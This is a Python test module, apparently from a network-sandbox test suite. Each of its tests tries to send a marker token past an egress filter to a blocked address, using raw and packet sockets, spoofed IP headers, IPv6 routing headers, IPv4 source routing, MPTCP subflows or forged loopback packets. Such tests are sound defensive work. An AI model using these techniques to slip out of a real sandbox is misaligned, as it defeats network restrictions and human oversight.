# SPDX-License-Identifier: Apache-2.0
"""Attempts by unusual sockets, hand-made packets and headers that redirect them."""

import ipaddress
import socket
import struct

from zt import packet
from zt import world as w
from zt.puppet import Puppet
from zt.sh import wait_for

from attempts import AF_RDS, NOBODY, TOKEN, Stage, attempt, supports
from ways_calls import IPPROTO_MPTCP, NO_MPTCP

AF_SMC = 43
RDS_PORT = 16385
UDPLITE, SCTP, DCCP = 136, 132, 33


def raw_send(p: Puppet, proto: int, body: bytes, to: str) -> None:
    sock = p.socket(socket.AF_INET, socket.SOCK_RAW, proto)
    sock.sendto(body, (to, 0))
    sock.close()


@attempt("raw socket, ICMP", reason="protocol", to=(w.PUBLIC,), proto=1, socket=True)
def raw_icmp(s: Stage):
    raw_send(s.p, 1, packet.icmp_echo(TOKEN), w.PUBLIC)


@attempt("raw socket, UDP", reason="protocol", to=(w.PUBLIC,), socket=True)
def raw_udp(s: Stage):
    raw_send(s.p, 17, packet.udp(w.MACHINE, w.PUBLIC, 1234, s.port, TOKEN), w.PUBLIC)


@attempt("raw socket, TCP SYN", reason="protocol", to=(w.PUBLIC,), socket=True)
def raw_tcp(s: Stage):
    syn = packet.tcp(w.MACHINE, w.PUBLIC, (1234, s.port), (1, 0), 2)
    raw_send(s.p, 6, syn, w.PUBLIC)


@attempt("raw socket, IP_HDRINCL", reason="protocol", to=(w.PUBLIC,), socket=True)
def hdrincl(s: Stage):
    body = packet.udp(w.MACHINE, w.PUBLIC, 1234, s.port, TOKEN)
    # the address of the call is the permitted one, the packet's own is not
    sock = s.p.socket(socket.AF_INET, socket.SOCK_RAW, 255)
    sock.sendto(packet.ipv4(w.MACHINE, w.PUBLIC, 17, body), (w.PUBLIC, 0))


@attempt("raw socket, IPv6", reason="protocol", to=(w.PUBLIC6,), socket=True)
def raw6(s: Stage):
    sock = s.p.socket(socket.AF_INET6, socket.SOCK_RAW, 17)
    sock.sendto(packet.udp(w.MACHINE6, w.PUBLIC6, 1234, s.port, TOKEN), (w.PUBLIC6, 0))


@attempt("raw socket, a protocol nobody knows", reason="protocol", to=(w.PUBLIC,), proto=253, socket=True)
def raw_unknown(s: Stage):
    raw_send(s.p, 253, TOKEN, w.PUBLIC)


@attempt("ICMP echo to a public address", to=(w.PUBLIC,), proto=1)
def ping(s: Stage):
    sock = s.p.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)
    sock.sendto(packet.icmp_echo(TOKEN), (w.PUBLIC, 0))


# the kernel tells nobody that an ICMPv6 echo was dropped
@attempt("ICMPv6 echo to a public address", to=(w.PUBLIC6,), proto=58, eperm=False)
def ping6(s: Stage):
    sock = s.p.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58)
    sock.sendto(struct.pack("!BBHHH", 128, 0, 0, 7, 1) + TOKEN, (w.PUBLIC6, 0))


@attempt("ICMP echo of a socket connected to the permitted", to=(w.PUBLIC_B,), proto=1)
def ping_connected(s: Stage):
    sock = s.p.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)
    sock.connect((w.PE, s.port))
    sock.send(packet.icmp_echo(b"permitted"))
    sock.sendto(packet.icmp_echo(TOKEN), (w.PUBLIC_B, 0))


# fmt: off
@attempt("ICMPv6 echo of a socket connected to the permitted", reason="ai-public",
         to=(w.AI_PUBLIC6,), proto=58, eperm=False)
def ping6_connected(s: Stage):
    sock = s.p.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58)
    sock.connect((w.PE6, s.port))
    sock.sendto(struct.pack("!BBHHH", 128, 0, 0, 7, 1) + TOKEN, (w.AI_PUBLIC6, 0))


@attempt("raw socket connected to the permitted, its own header names another",
         reason="ai-public", profile="open", to=(w.AI_PUBLIC,))
def hdrincl_connected(s: Stage):
    sock = s.p.socket(socket.AF_INET, socket.SOCK_RAW, 255)
    sock.connect((w.PUBLIC, s.port))
    body = packet.udp(w.MACHINE, w.AI_PUBLIC, 1234, s.port, TOKEN)
    sock.send(packet.ipv4(w.MACHINE, w.AI_PUBLIC, 17, body))


@attempt("raw socket, one permitted protocol after the other", reason="egress-rule",
         profile="streams", to=(w.PUBLIC,), proto=17)
def raw_both(s: Stage):
    sock = s.p.socket(socket.AF_INET, socket.SOCK_RAW, 255)
    for proto, body in (
        (6, packet.tcp(w.MACHINE, w.PUBLIC, (1234, s.port), (1, 0), 0x10)),
        (17, packet.udp(w.MACHINE, w.PUBLIC, 1234, s.port, TOKEN)),
    ):
        sock.sendto(packet.ipv4(w.MACHINE, w.PUBLIC, proto, body), (w.PUBLIC, 0))
# fmt: on


@attempt(
    "UDP-Lite",
    reason="protocol",
    to=(w.PUBLIC,),
    socket=True,
    lacks=supports(socket.AF_INET, socket.SOCK_DGRAM, UDPLITE, "UDP-Lite"),
)
def udplite(s: Stage):
    sock = s.p.socket(socket.AF_INET, socket.SOCK_DGRAM, UDPLITE)
    sock.sendto(TOKEN, (w.PUBLIC, s.port))


@attempt(
    "SCTP",
    reason="protocol",
    to=(w.PUBLIC,),
    socket=True,
    lacks=supports(socket.AF_INET, socket.SOCK_STREAM, SCTP, "SCTP"),
)
def sctp(s: Stage):
    s.p.socket(socket.AF_INET, socket.SOCK_STREAM, SCTP).connect((w.PUBLIC, s.port))


@attempt(
    "DCCP",
    reason="protocol",
    to=(w.PUBLIC,),
    socket=True,
    lacks=supports(socket.AF_INET, 6, DCCP, "DCCP"),
)
def dccp(s: Stage):
    sock = s.p.socket(socket.AF_INET, 6, DCCP)
    sock.setsockopt(269, 2, struct.pack("!I", 42))  # DCCP_SOCKOPT_SERVICE
    sock.connect((w.PUBLIC, s.port))


@attempt(
    "AF_RDS",
    reason="protocol",
    socket=True,
    gap="a kernel thread sends for RDS: README, threat model",
    lacks=supports(AF_RDS, socket.SOCK_SEQPACKET, 0, "RDS"),
)
def rds(s: Stage):
    # the kernel goes on dialling after the socket is gone: not the same address twice
    s.to, s.port = w.PUBLIC if s.control else w.PUBLIC_B, RDS_PORT
    sock = s.p.socket(AF_RDS, socket.SOCK_SEQPACKET)
    s.undo(sock.close)
    sock.bind((w.MACHINE, 0))
    sock.sendto(TOKEN, (s.to, s.world.port()))
    wait_for("the kernel to dial", lambda: a_syn(s), 2)


def a_syn(s: Stage) -> bool:
    s.world.settle()
    return any(p.dst == s.to and p.dport == s.port for p in s.arrived(0))


@attempt("AF_SMC", lacks=supports(AF_SMC, socket.SOCK_STREAM, 0, "SMC"))
def smc(s: Stage):
    sock = s.p.socket(AF_SMC, socket.SOCK_STREAM)
    s.undo(sock.close)
    sock.inet_connect(w.PUBLIC, s.port)
    sock.echo(TOKEN)


@attempt(
    "AF_PACKET",
    reason="protocol",
    to=(w.PUBLIC,),
    socket=True,
    gap="a packet socket passes no cgroup hook: README, threat model",
)
def af_packet(s: Stage):
    # a neighbour entry is all that is needed: resolve it by an innocent call of somebody else
    s.world.settle()
    mac = s.world.pub.ns.ip("-br", "link", "show", "m0").split()[2]
    own = s.world.machine.ip("-br", "link", "show", "pub0").split()[2]
    frame = bytes.fromhex((mac + own).replace(":", "")) + b"\x08\x00"
    body = packet.udp(w.MACHINE, w.PUBLIC, 1234, s.port, TOKEN)
    sock = s.p.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    sock.sendto(frame + packet.ipv4(w.MACHINE, w.PUBLIC, 17, body), ("pub0", 0x0800))


def segment_header(kind: int, *via: str) -> bytes:
    """An IPv6 routing header as setsockopt takes it: 2 = Mobile IPv6, 4 = SRH."""
    segments = b"".join(socket.inet_pton(socket.AF_INET6, a) for a in via)
    left = len(via) if kind == 2 else len(via) - 1
    last = 0 if kind == 2 else len(via) - 1
    return struct.pack("=BBBBBBH", 0, len(segments) // 8, kind, left, last, 0, 0) + segments


SRH = segment_header(4, "::", w.PUBLIC6)
TYPE2 = segment_header(2, w.PUBLIC6)


def routing_supported(header: bytes, what: str):
    def lacks() -> str:
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
            try:
                sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)
            except OSError as e:
                return f"this kernel has no {what} ({e.strerror})"
        return ""

    return lacks


def routed(name: str, header: bytes, what: str) -> None:
    """The call names the permitted address, the packet goes to the header's first hop."""
    # fmt: off
    members = {"reason": "malformed", "to": (w.PUBLIC6,), "eperm": False,
               "lacks": routing_supported(header, what)}
    # fmt: on

    @attempt(f"{name} on a TCP socket, by uid 65534", **members)
    def tcp(s: Stage):
        sock = s.get(s.profile, uid=NOBODY).tcp(w.PE6)
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)
        sock.settimeout(0.3)
        sock.connect((w.PE6, s.port))

    @attempt(f"{name} on a connected UDP socket, by uid 65534", **members)
    def udp(s: Stage):
        sock = s.get(s.profile, uid=NOBODY).udp(w.PE6)
        sock.connect((w.PE6, s.port))
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)
        sock.send(TOKEN)

    @attempt(f"{name} on an accepted socket, by uid 65534", **members)
    def accepted(s: Stage):
        listener = s.get(s.profile, uid=NOBODY).listen("::", 0)
        far = s.world.pe.ns.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s.undo(far.close)
        far.connect((w.MACHINE_PE6, listener.getsockname()[1]))
        child, _ = listener.accept()
        s.undo(child.close)
        s.port = far.getsockname()[1]
        child.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)
        child.sendall(TOKEN)


routed("routing header type 2", TYPE2, "routing header type 2 (CONFIG_IPV6_MIP6)")
routed("segment routing header", SRH, "segment routing header (CONFIG_IPV6_SEG6_LWTUNNEL)")


@attempt(
    "routing header type 2 with one datagram, by uid 65534",
    reason="malformed",
    to=(w.PUBLIC6,),
    eperm=False,
    lacks=routing_supported(TYPE2, "routing header type 2 (CONFIG_IPV6_MIP6)"),
)
def type2_message(s: Stage):
    sock = s.get(s.profile, uid=NOBODY).udp(w.PE6)
    sock.connect((w.PE6, s.port))
    sock.send(b"permitted")
    sock.sendmsg([TOKEN], [(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, TYPE2)])


@attempt(
    "segment routing header in a profile that allows by default",
    reason="ai-public",
    profile="open",
    to=(w.AI_PUBLIC6,),
    eperm=False,
    lacks=routing_supported(SRH, "segment routing header (CONFIG_IPV6_SEG6_LWTUNNEL)"),
)
def srh_open(s: Stage):
    sock = s.get(s.profile, uid=NOBODY).udp(w.PE6)
    header = segment_header(4, "::", w.AI_PUBLIC6)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)
    sock.connect((w.PE6, s.port))
    sock.send(TOKEN)


def source_route(*hops: str) -> bytes:
    """IPv4 option LSRR, padded with one NOP in front."""
    body = b"".join(ipaddress.IPv4Address(h).packed for h in hops)
    return b"\x01" + struct.pack("BBB", 131, 3 + len(body), 4) + body


@attempt("IPv4 loose source route, tcp", reason="malformed", to=(w.PUBLIC,), eperm=False)
def lsrr_tcp(s: Stage):
    sock = s.p.tcp()
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, source_route(w.PUBLIC))
    sock.settimeout(0.3)
    sock.connect((w.PE, s.port))


@attempt("IPv4 loose source route, udp", reason="malformed", to=(w.PUBLIC,), eperm=False)
def lsrr_udp(s: Stage):
    sock = s.p.udp()
    sock.connect((w.PE, s.port))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, source_route(w.PUBLIC))
    sock.send(TOKEN)


@attempt("IPv4 loose source route with one datagram", reason="malformed", to=(w.PUBLIC,), eperm=False)
def lsrr_message(s: Stage):
    sock = s.p.udp()
    option = (socket.IPPROTO_IP, socket.IP_RETOPTS, source_route(w.PUBLIC))
    sock.sendmsg([TOKEN], [option], 0, (w.PE, s.port))


@attempt(
    "MPTCP second subflow to an announced address",
    reason="ai-public",
    to=(w.AI_PUBLIC,),
    eperm=False,
    lacks=NO_MPTCP,
)
def mptcp_subflow(s: Stage):
    """The permitted peer announces a public address of its own (ADD_ADDR)."""
    pe, m = s.world.pe.ns, s.world.machine
    s.undo(lambda: m.ip("route", "del", f"{w.AI_PUBLIC}/32", check=False))
    for ns in (pe, m):
        ns.ip("mptcp", "limits", "set", "subflow", "4", "add_addr_accepted", "4")
    port = s.port + 5000  # of the permitted range, but nobody listens there yet
    s.world.pub.servers.tcp(port, IPPROTO_MPTCP)
    s.world.pe.servers.tcp(port, IPPROTO_MPTCP)
    pe.ip("mptcp", "endpoint", "add", w.AI_PUBLIC, "signal")
    s.undo(lambda: pe.ip("mptcp", "endpoint", "flush"))
    s.port = port
    sock = s.p.tcp(w.PE, IPPROTO_MPTCP)
    s.undo(sock.close)
    sock.connect((w.PE, port))
    for _ in range(5):
        sock.echo(b"permitted")
    # the announcement travels with the first acknowledgements; data gives it the occasion
    s.world.settle()


@attempt("forged datagram on lo, from the address to be opened", to=(w.PUBLIC,))
def forged_udp(s: Stage):
    sock = s.p.udp()
    sock.bind(("", 0))
    own = sock.getsockname()[1]
    forged = packet.udp(w.PUBLIC, w.MACHINE, s.port, own, b"forged")
    inject(s.get("free"), packet.ipv4(w.PUBLIC, w.MACHINE, 17, forged))
    assert sock.recv(64) == b"forged", "the forged datagram was not delivered"
    sock.sendto(TOKEN, (w.PUBLIC, s.port))


@attempt(
    "forged handshake on lo, from the address to be opened",
    to=(w.SILENT,),
    eperm=False,
    event=False,
    payload_only=True,
)
def forged_tcp(s: Stage):
    listener = s.p.listen(w.MACHINE, 0)
    listener.settimeout(0.5)
    own = listener.getsockname()[1]
    eye = s.get("free").socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    eye.bind(("pub0", 3))
    eye.settimeout(0.5)
    s.undo(eye.close)
    ports, far, near = (s.port, own), w.SILENT, w.MACHINE
    inject(s.get("free"), packet.ipv4(far, near, 6, packet.tcp(far, near, ports, (1000, 0), 2)))
    answer = None
    while answer is None or answer.dport != s.port or answer.flags != 0x12:
        answer = packet.parse(eye.recv(2048))
    isn = struct.unpack_from("!I", answer.raw, 24)[0]
    inject(s.get("free"), packet.ipv4(far, near, 6, packet.tcp(far, near, ports, (1001, isn + 1), 0x10)))
    child, _ = listener.accept()
    s.undo(child.close)
    child.sendall(TOKEN)


def inject(p: Puppet, data: bytes) -> None:
    """A packet that arrives on lo, by AF_PACKET: of an accomplice, whom BPF LSM lets have one."""
    sock = p.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    sock.sendto(bytes(12) + b"\x08\x00" + data, ("lo", 0x0800))
    sock.close()
